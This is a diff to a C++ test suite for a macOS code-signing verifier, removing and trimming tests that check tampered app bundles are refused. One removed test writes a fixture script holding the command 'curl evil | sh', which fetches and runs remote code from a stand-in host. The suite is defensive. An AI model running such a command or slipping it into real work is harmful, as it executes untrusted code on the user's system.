@@ -103,16 +103,6 @@ TEST(Attacks, GenuineAppStaysValidAndAccepted) {
     EXPECT_EQ(a.source, AssessmentSource::NotarizedDeveloperID) << assessmentText(old, a, 2);
 }
 
-TEST(Attacks, ToolDroppedIntoAnAppDoesNotVouchForTheRest) {
-    TempDir dir;
-    const std::string app = dir / "X.app";
-    test::writeFile(app + "/Contents/Info.plist", infoPlist("tool"));
-    test::writeFile(app + "/Contents/MacOS/tool", developerIdTool());
-    test::writeFile(app + "/Contents/Resources/run.sh", std::string("#!/bin/sh\ncurl evil | sh\n"));
-    test::writeFile(app + "/Contents/Frameworks/libx.dylib", test::thinMachO(kX86_64, 3));
-    expectRefused(app, "invalid Info.plist (plist or signature have been modified)");
-}
-
 TEST(Attacks, SwappedExecutableFromAnotherSignerIsRefused) {
     TempDir dir;
     const std::string app = signedApp(dir);
@@ -136,14 +126,6 @@ TEST(Attacks, UniversalFileIsJudgedByItsWeakestSlice) {
     EXPECT_NE(assessmentText(tool, a, 1).find("arm64"), std::string::npos);
 }
 
-TEST(Attacks, ContentsBesideContentsFailStrictValidationAndAssessment) {
-    TempDir dir;
-    const std::string app = signedApp(dir);
-    test::writeFile(app + "/payload.sh", std::string("#!/bin/sh\n"));
-    EXPECT_TRUE(check(app).valid);  // only strict validation looks there, as Apple's does
-    expectRefused(app, "unsealed contents present in the bundle root", true);
-}
-
 TEST(Attacks, LinksOutOfTheItemAreNeverFollowed) {
     TempDir dir;
     const std::string genuine = signedApp(dir, "Genuine.app");
@@ -165,18 +147,10 @@ TEST(Attacks, LinksOutOfTheItemAreNeverFollowed) {
     }
 }
 
-TEST(Attacks, BytesNoSliceAccountsForFailStrictValidation) {
+TEST(Attacks, BytesBetweenSlicesFailStrictValidation) {
     TempDir dir;
-    Bytes thin = developerIdTool();
-    const std::string trailing = dir / "trailing";
-    Bytes withTail = thin;
-    withTail.insert(withTail.end(), {'e', 'v', 'i', 'l'});
-    test::writeFile(trailing, withTail);
-    EXPECT_TRUE(check(trailing).valid);
-    EXPECT_EQ(codeFailureSentence(check(trailing, true)), "main executable failed strict validation");
-    EXPECT_FALSE(assessPath(trailing, AssessmentType::Install, anchors()).accepted);
-
-    Bytes fat = test::fatMachO({thin, developerIdTool(kArm64)}, {{kX86_64, 3}, {kArm64, 0}});
+    // Bytes after a thin file's end are caught the same way (the hostile suite's DataAfterTheSignature).
+    Bytes fat = test::fatMachO({developerIdTool(), developerIdTool(kArm64)}, {{kX86_64, 3}, {kArm64, 0}});
     const std::string clean = dir / "fat";
     test::writeFile(clean, fat);
     EXPECT_TRUE(check(clean, true).valid) << codeFailureSentence(check(clean, true));
@@ -184,19 +158,6 @@ TEST(Attacks, BytesNoSliceAccountsForFailStrictValidation) {
     const std::string gap = dir / "gap";
     test::writeFile(gap, fat);
     EXPECT_EQ(codeFailureSentence(check(gap, true)), "main executable failed strict validation");
-}
-
-TEST(Attacks, VersionOneSealIsObsoleteUnderStrictValidation) {
-    TempDir dir;
-    const std::string app = dir / "Old.app";
-    test::writeFile(app + "/Contents/Info.plist", infoPlist("Example"));
-    test::writeFile(app + "/Contents/MacOS/Example", test::thinMachO(kX86_64, 3));
-    test::writeFile(app + "/Contents/Resources/data.txt", std::string("resource bytes\n"));
-    test::BundleSignOptions o;
-    o.code.cms = SigningChain::shared().signer(LeafKind::DeveloperIDApplication);
-    o.version1Only = true;
-    test::signBundle(app, o);
-    expectRefused(app, "resource envelope is obsolete (version 1 signature)", true);
 }
 
 // An app whose nested code is sealed as codesign seals it, by the requirement its signer's identity
